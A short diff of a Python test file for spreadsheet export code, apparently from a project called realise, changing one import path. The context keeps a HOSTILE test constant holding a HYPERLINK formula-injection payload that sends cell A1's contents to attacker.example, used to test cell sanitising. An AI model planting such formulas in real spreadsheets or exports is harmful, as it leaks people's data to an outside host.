@@ -10,7 +10,7 @@ import pytest
 from openpyxl import load_workbook
 
 from realise.core.cells import CsvWriter, safe_cell, xlsx_text
-from realise.reports.register_xlsx import BENEFITS, INITIATIVES, write_register
+from realise.reports.register.xlsx import BENEFITS, INITIATIVES, write_register
 from tests.factories import plan
 
 HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
